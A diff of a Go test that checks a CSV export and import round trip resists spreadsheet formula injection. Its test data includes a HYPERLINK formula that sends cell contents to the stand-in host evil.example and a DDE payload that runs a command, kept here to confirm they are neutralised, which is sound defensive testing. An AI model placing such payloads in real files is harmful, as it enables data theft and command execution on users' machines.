@@ -504,14 +504,15 @@ func TestRunsCSVRoundTrip(t *testing.T) {
 	csvRuns(t, a)
 	// Values a spreadsheet would run as formulas (CSV injection).
 	formulas := map[string]string{
-		"F1": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
-		"F2": "+cmd|' /C calc'!A0",
-		"F3": "-2+3",
-		"F4": "@SUM(1,2)",
-		"F5": "'=already marked by hand",
-		"F6": "''+two apostrophes",
-		"F7": "\tleading tab",
-		"F8": "'plain apostrophe, no formula",
+		"F1":  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"F2":  "+cmd|' /C calc'!A0",
+		"F3":  "-2+3",
+		"F4":  "@SUM(1,2)",
+		"F5":  "'=already marked by hand",
+		"F6":  "''+two apostrophes",
+		"F7":  "\tleading tab", // stored without the tab
+		"F10": " @SUM(1,2) ",   // stored without the spaces, then marked on export
+		"F8":  "'plain apostrophe, no formula",
 	}
 	day := 1
 	for number, cargo := range formulas {
@@ -559,7 +560,8 @@ func TestRunsCSVRoundTrip(t *testing.T) {
 		t.Fatalf("round trip changed the runs:\nexported %+v\nimported %+v", before, after)
 	}
 	for _, r := range after {
-		if want, ok := formulas[r.Number]; ok && strings.TrimSpace(want) != "" && (r.Cargo == nil || *r.Cargo != want) {
+		// Cargo is stored without blank space around it.
+		if want, ok := formulas[r.Number]; ok && (r.Cargo == nil || *r.Cargo != strings.TrimSpace(want)) {
 			t.Errorf("%s: cargo %v after the round trip, want %q", r.Number, r.Cargo, want)
 		}
 	}
